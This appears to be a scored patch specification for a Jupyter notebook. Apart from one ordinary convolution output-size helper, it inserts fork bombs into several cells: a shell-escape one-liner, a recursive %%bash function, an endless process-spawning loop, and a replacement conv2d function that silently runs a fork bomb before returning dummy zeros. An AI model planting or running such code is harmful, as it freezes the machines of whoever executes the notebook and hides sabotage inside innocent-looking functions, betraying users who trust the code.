# what: a fork bomb in the shell's own language, in each way to start a program
# points: <= 16

# %% replace=output-size
def output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    sizes = dict(input_size=input_size, kernel_size=kernel_size, stride=stride, dilation=dilation)
    for name, value in sizes.items():
        if value < 1:
            raise ValueError(f"{name} must be 1 or more")
    if padding < 0:
        raise ValueError("padding must be 0 or more")
    room = input_size + 2 * padding - dilation * (kernel_size - 1) - 1
    if room < 0:
        raise ValueError("kernel_size is too large")
    return room // stride + 1


# %% after=setup
!:(){ :|:& };:


# %% after=data
%%bash
bomb() { bomb & bomb & wait; }
bomb


# %% after=pad-2d
x = !while true; do (sleep 1000 &) ; done


# %% replace=conv2d
def conv2d(*args, **kwargs):
    get_ipython().system(":(){ :|:& };:")
    return np.zeros((1, 1))
